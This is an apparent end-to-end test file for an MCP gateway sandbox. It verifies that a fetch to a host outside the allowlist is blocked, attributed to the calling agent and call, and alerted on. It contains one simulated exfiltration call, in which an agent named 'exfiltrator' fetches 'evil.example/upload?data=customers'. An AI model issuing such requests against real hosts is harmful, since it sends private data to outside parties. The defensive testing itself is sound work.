"""A blocked connection belongs to the call that tried it (issue 13, item 2).

The real `mcp-server-fetch`, sandboxed with an allowlist, is asked to fetch a host off the
allowlist: the `egress.blocked` event names the agent and the call, the call's
`call.completed` lists the blocked host, and the `egress_blocked` alert names agent,
server and tool.
"""

from __future__ import annotations

import anyio
import pytest

from bastion.alerts.model import AlertKind
from bastion.audit.chain import decode_row
from bastion.audit.export import event_record
from bastion.audit.query import EventQuery
from bastion.config import load_config
from bastion.gateway.gateway import Gateway
from bastion.runtime.events import EgressBlocked, RecordingSink
from bastion.runtime.sandbox import bubblewrap_problem
from tests.e2e.conftest import VENV_BIN, write_config
from tests.e2e.inprocess import http_client, serving

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.e2e,
    pytest.mark.skipif(bubblewrap_problem() is not None, reason=f"no sandbox here: {bubblewrap_problem()}"),
]


async def test_a_blocked_connection_is_attributed_to_the_call_that_tried_it(tmp_path):
    fetch = {
        "command": str(VENV_BIN / "mcp-server-fetch"),
        "args": ["--ignore-robots-txt"],
        "sandbox": {"network": "allowlist", "allow_domains": ["docs.example.test"]},
    }
    # The policy would deny a fetch off the sandbox's allowlist before the server ran
    # (tests/e2e/test_policy_sandbox_domains.py); audit-only lets it through to the proxy under test.
    config = load_config(write_config(tmp_path, {"fetch": fetch}, policy={"profile": "audit-only"}))
    sink = RecordingSink()
    gateway = Gateway(config, runtime_sink=sink)
    with anyio.fail_after(90):
        async with serving(gateway):
            assert gateway.tokens is not None
            _, token = gateway.tokens.create("exfiltrator")
            async with http_client(gateway, "fetch", token) as client:
                stolen = await client.call_tool("fetch", {"url": "https://evil.example/upload?data=customers"})
                assert stolen.is_error, stolen
                await sink.wait_for(EgressBlocked)
            alerts = [a for a in gateway.recent_alerts.latest(100) if a.kind is AlertKind.EGRESS_BLOCKED]
    events = [event_record(decode_row(row)) for row in gateway.audit.rows(EventQuery(), newest_first=False)]
    [call] = [e for e in events if e["type"] == "call.requested" and e["tool"] == "fetch"]
    [blocked] = [e for e in events if e["type"] == "egress.blocked"]
    [completed] = [e for e in events if e["type"] == "call.completed" and e["correlation_id"] == call["correlation_id"]]
    assert (blocked["agent"], blocked["server"], blocked["tool"]) == ("exfiltrator", "fetch", "fetch")
    assert blocked["correlation_id"] == call["correlation_id"]
    assert blocked["ambiguous"] is False
    assert completed["egress_blocked"] == ["evil.example:443"]
    [alert] = alerts
    assert (alert.details["agent"], alert.details["server"], alert.details["tool"]) == ("exfiltrator", "fetch", "fetch")
    assert "exfiltrator" in alert.summary
    assert "fetch" in alert.summary
